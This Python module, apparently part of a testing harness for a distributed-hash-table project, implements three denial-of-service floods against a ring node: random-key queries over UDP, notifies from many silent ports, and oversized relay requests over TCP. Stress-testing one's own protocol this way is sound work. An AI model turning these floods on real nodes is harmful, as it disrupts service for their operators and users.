# Copyright (c) 2026 The dht-cc authors
#
# SPDX-License-Identifier: GPL-2.0-only
"""Floods: queries, notifies, and requests to relay, from somebody who has no place in the ring."""

import secrets
import socket
import struct
import time

from attacks.aim import Attack, add_aim, number_of
from frames import HOPS, NOTIFY, QUERY, REQUEST, Frame, encode, family_of, id_of

ID_AT, QUERY_KEY_AT, REQUEST_KEY_AT = 8, 16, 20  # where a frame's number and its key are


def own_address(target):
    """The own address by which one gets there."""
    with socket.socket(family_of(target[0]), socket.SOCK_DGRAM) as sock:
        sock.connect(target)
        return sock.getsockname()[0]


def datagram_socket(target):
    sock = socket.socket(family_of(target[0]), socket.SOCK_DGRAM)
    sock.bind((own_address(target), 0))
    sock.setblocking(False)
    return sock


def renumber(frame, key_at=None):
    """A new number, and a new key if it has one."""
    struct.pack_into("!Q", frame, ID_AT, secrets.randbits(64))
    if key_at:
        frame[key_at : key_at + 20] = secrets.token_bytes(20)


def send(attack, sock, data):
    """One datagram; where the system has no room for it, it is counted."""
    try:
        sock.sendto(data, attack.options.target)
        attack.count["packets"] += 1
        attack.count["bytes"] += len(data)
    except OSError:  # no room, or nobody there
        attack.count["unsent"] += 1


def drain(attack, sock):
    """Take what has come."""
    try:
        while True:
            attack.count["bytes_back"] += len(sock.recv(65535))
            attack.count["packets_back"] += 1
    except OSError:
        pass


class QueryFlood(Attack):
    """queries for random keys from one socket"""

    @staticmethod
    def add_options(parser):
        add_aim(parser, "queries", 1000)

    def run(self):
        frame = bytearray(encode(Frame(QUERY, 0, key=0)))
        with datagram_socket(self.options.target) as sock:
            for number, _ in enumerate(self.turns()):
                renumber(frame, QUERY_KEY_AT)
                send(self, sock, frame)
                if number % 64 == 0:
                    drain(self, sock)
            drain(self, sock)
        self.report()
        return 0


class NotifyFlood(Attack):
    """notifies, and queries for the target's own id, from many ports that never answer"""

    @staticmethod
    def add_options(parser):
        add_aim(parser, "messages", 200)
        parser.add_argument("--ports", type=number_of(1, 512), default=64, metavar="NUMBER", help="1 to 512 (64)")

    def run(self):
        target = self.options.target
        sockets = [datagram_socket(target) for _ in range(self.options.ports)]
        frames = [bytearray(encode(frame)) for frame in (Frame(NOTIFY, 0), Frame(QUERY, 0, key=id_of(target)))]
        for number, _ in enumerate(self.turns()):
            frame = frames[number // len(sockets) % 2]
            renumber(frame)
            send(self, sockets[number % len(sockets)], frame)
        for sock in sockets:
            drain(self, sock)  # what it was asked, and did not answer
            sock.close()
        self.report()
        return 0


class RelayFlood(Attack):
    """requests for random keys on one connection, which the target has to relay"""

    @staticmethod
    def add_options(parser):
        add_aim(parser, "requests", 1000)
        size = "length of a request's frame, in bytes: 64 to 4096 (64)"
        parser.add_argument("--message-size", type=number_of(64, 4096), default=64, metavar="BYTES", help=size)

    def run(self):
        with datagram_socket(self.options.target) as answers:
            frame = Frame(REQUEST, 0, hops=HOPS, key=0, endpoint=answers.getsockname()[:2])
            frame.payload = bytes(max(0, self.options.message_size - len(encode(frame))))
            data = bytearray(encode(frame))
            while not self.is_over():
                try:
                    with socket.create_connection(self.options.target, timeout=1) as sock:
                        self.send_all(sock, data, answers)
                except OSError:
                    self.count["connections_lost"] += 1
                    time.sleep(0.1)
        self.report()
        return 0

    def send_all(self, sock, data, answers):
        self.count["connections"] += 1
        for number, _ in enumerate(self.turns()):
            renumber(data, REQUEST_KEY_AT)
            self.send_one(sock, data)
            self.count["packets"] += 1
            self.count["bytes"] += len(data)
            if number % 64 == 0:
                drain(self, answers)
        drain(self, answers)

    def send_one(self, sock, data):
        """The peer may make us wait; but the end is the end."""
        view = memoryview(data)
        while view and not self.is_over():
            try:
                view = view[sock.send(view) :]
            except socket.timeout:
                self.count["seconds_held_up"] += 1
